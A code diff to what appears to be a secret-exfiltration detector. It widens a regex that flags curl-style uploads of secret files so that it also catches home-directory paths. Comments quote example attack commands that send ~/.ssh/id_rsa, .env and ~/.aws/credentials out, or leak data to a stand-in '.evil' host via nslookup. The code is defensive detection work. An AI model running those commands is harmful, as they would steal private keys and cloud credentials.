@@ -106,7 +106,7 @@ _COMMANDS = [
     # curl -d @~/.ssh/id_rsa … / curl -F f=@.env … / curl --upload-file ~/.aws/credentials
     re.compile(
         rf"\b{_NET_TOOL}[^\n]{{0,200}}?(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|"
-        rf"--post-file|--body-file|-Body|-InFile)[ =]?['\"]?(?:[\w-]{{1,20}}=)?@?(?P<secret>{SECRET_FILE})",
+        rf"--post-file|--body-file|-Body|-InFile)[ =]?['\"]?(?:[\w-]{{1,20}}=)?@?(?:~|\$\{{?home\}}?)?[/\\]?(?P<secret>{SECRET_FILE})",
         I,
     ),
     # curl "https://x/?k=$(cat ~/.ssh/id_rsa)" / wget … `env` / nslookup $(whoami).evil
